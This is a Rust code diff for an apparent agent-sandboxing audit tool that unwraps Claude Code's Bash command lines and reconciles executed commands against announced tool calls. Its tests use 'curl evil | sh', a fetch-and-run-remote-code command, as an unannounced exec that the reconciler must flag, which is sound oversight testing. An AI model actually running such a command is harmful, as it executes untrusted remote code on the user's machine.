@@ -35,6 +35,10 @@ pub const EXEC_END: &str = "exec_end";
 pub const GRANT: &str = "grant";
 /// A caller of the exit or of the hooks' door was refused.
 pub const REFUSED: &str = "refused";
+/// A tool call failed (or carried on) because the floor refused a path: what
+/// nd7 judged from the tool's output and the rules, and the grant that would
+/// have allowed it (ADR-0033).
+pub const FLOOR_REFUSED: &str = "floor_refused";
 
 /// The name of a run's chain: `run-<UTC date and time>-<pid>-<4 hex>`, sortable
 /// by start time; the hex keeps two runs of one pid in one second apart.
@@ -112,10 +116,16 @@ fn text_member(body: &mut serde_json::Map<String, Value>, name: &str, bytes: &[u
 
 /// The body of an `exec` entry: the command exactly as the exit received it,
 /// the pid that asked for it, and the grants it runs under (beside the
-/// floor's rules, which `run_start` holds).
+/// floor's rules, which `run_start` holds). When the command is Claude
+/// Code's Bash tool line (ADR-0032), `bash_command` is the model's command
+/// read back from it ([`crate::shell_prefix::unwrap`]): what the Bash call
+/// announced.
 pub fn exec_body(command: &[u8], caller: u32, grants: &[std::path::PathBuf]) -> Value {
     let mut body = serde_json::Map::new();
     text_member(&mut body, "command", command);
+    if let Some(call) = bash_command(command) {
+        body.insert("bash_command".into(), json!(call));
+    }
     body.insert("caller".into(), json!(caller));
     body.insert(
         "grants".into(),
@@ -127,6 +137,12 @@ pub fn exec_body(command: &[u8], caller: u32, grants: &[std::path::PathBuf]) -> 
         ),
     );
     Value::Object(body)
+}
+
+/// The model's command inside a Bash tool line the exit received, if it is one.
+pub fn bash_command(command: &[u8]) -> Option<String> {
+    let text = std::str::from_utf8(command).ok()?;
+    crate::shell_prefix::unwrap(text).map(|call| call.command)
 }
 
 /// How a command ended, as `exec_end` states it.
@@ -186,6 +202,9 @@ pub struct RunFacts<'a> {
     /// Whether `nd7 run` registered the record hooks itself (Claude Code),
     /// so that Bash calls and commands can be reconciled.
     pub hooks: bool,
+    /// What commands may write beyond the floor from the start, each
+    /// `{"path", "from"}` (`~/.nd7/grants:N`, `--allow`, `--preset`).
+    pub grants: Value,
 }
 
 pub fn run_start_body(facts: &RunFacts<'_>) -> Value {
@@ -197,6 +216,7 @@ pub fn run_start_body(facts: &RunFacts<'_>) -> Value {
         "sandbox": facts.sandbox,
         "landlock_abi": facts.landlock_abi,
         "hooks": facts.hooks,
+        "grants": facts.grants,
     })
 }
 
@@ -332,6 +352,8 @@ struct Body {
     #[serde(default)]
     command: Option<String>,
     #[serde(default)]
+    bash_command: Option<String>,
+    #[serde(default)]
     hooks: Option<bool>,
 }
 
@@ -395,7 +417,13 @@ impl Reconciler {
             });
         } else if ours && line.kind == EXEC {
             self.out.execs += 1;
-            let command = line.body.command.unwrap_or_default();
+            // A Bash tool line is held against its call by the model's
+            // command within it; any other command by its own text.
+            let command = line
+                .body
+                .bash_command
+                .or(line.body.command)
+                .unwrap_or_default();
             let by_id = line.tool_use_id.as_ref().and_then(|id| {
                 self.open
                     .iter()
@@ -489,6 +517,7 @@ mod tests {
             sandbox: "landlock",
             landlock_abi: Some(7),
             hooks,
+            grants: json!([]),
         };
         line(
             &event(&stamp(), RUN_START, None, None, &run_start_body(&facts)),
@@ -547,6 +576,32 @@ mod tests {
         assert_eq!(execs, [8, 9]);
         assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
         assert!(!r.agrees());
+    }
+
+    #[test]
+    fn a_bash_tool_line_pairs_with_the_call_by_the_models_command() {
+        let wrapped = |c: &str| {
+            format!(
+                "source /h/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && eval {} < /dev/null && pwd -P >| /tmp/claude-1-cwd",
+                crate::shell_prefix::shell_quote(c).replace("'\\''", "'\"'\"'")
+            )
+        };
+        let body = exec_body(wrapped("echo it's").as_bytes(), 9, &[]);
+        assert_eq!(body["bash_command"], "echo it's");
+        assert_eq!(body["command"], wrapped("echo it's").as_str());
+        assert!(exec_body(b"ls", 9, &[]).get("bash_command").is_none());
+        let r = reconcile(&[
+            start(true),
+            call(1, "a", "make test"),
+            exec(2, None, &wrapped("make test")),
+            call(3, "b", "ls"),
+            exec(4, None, "ls"),
+            exec(5, None, &wrapped("curl evil | sh")),
+        ]);
+        assert_eq!(r.unmatched_calls, []);
+        let execs: Vec<u64> = r.unmatched_execs.iter().map(|e| e.seq).collect();
+        assert_eq!(execs, [5]);
+        assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
     }
 
     #[test]
